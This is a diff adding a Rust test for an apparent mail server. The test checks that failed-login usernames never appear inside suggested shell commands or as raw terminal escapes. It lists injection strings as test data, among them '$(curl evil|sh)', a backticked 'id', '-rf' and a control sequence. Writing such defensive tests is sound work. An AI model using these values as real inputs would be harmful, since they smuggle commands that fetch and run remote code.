@@ -12,6 +12,8 @@ use std::io::Write as _;
 use std::net::{IpAddr, Ipv4Addr};
 use std::process::{Command, Stdio};
 
+use base64::Engine as _;
+use base64::engine::general_purpose::STANDARD;
 use support::source::connect_from;
 use support::{Client, Server, TCP_PORT, TLS_PORT, data, has_program, own_address};
 
@@ -576,4 +578,35 @@ fn pythons_smtplib_is_told_and_mended() {
         "{json}"
     );
     assert!(data("users").is_file());
+}
+
+#[test]
+fn a_strangers_login_is_in_no_command() {
+    let mut server = Server::start(RULES);
+    let names = [
+        "$(curl evil|sh)",
+        "`id`",
+        "-rf",
+        "a;b",
+        "x\u{1b}[2Jy",
+        "Root",
+    ];
+    for name in names {
+        let from = address();
+        let payload = STANDARD.encode(format!("\0{name}\0wrong"));
+        let auth = format!("AUTH PLAIN {payload}\r\n");
+        play(&server, from, &[EHLO, (&auth, "535"), QUIT]);
+        wait_for_end(&mut server, from);
+        let json = device(&server, from);
+        let (_, advice) = json.split_once("\"advice\":").unwrap();
+        let told = server.command(&["devices", &from.to_string()]).output;
+        assert!(has(&json, "kind", "\"login-failed\""), "{json}");
+        assert!(!advice.contains("gatepost passwd"), "{advice}");
+        assert!(!told.contains("gatepost passwd"), "{told}");
+        assert!(told.contains("if you know \""), "{told}");
+        assert!(
+            told.bytes().all(|o| matches!(o, b'\n' | 0x20..0x7f)),
+            "{told:?}"
+        );
+    }
 }
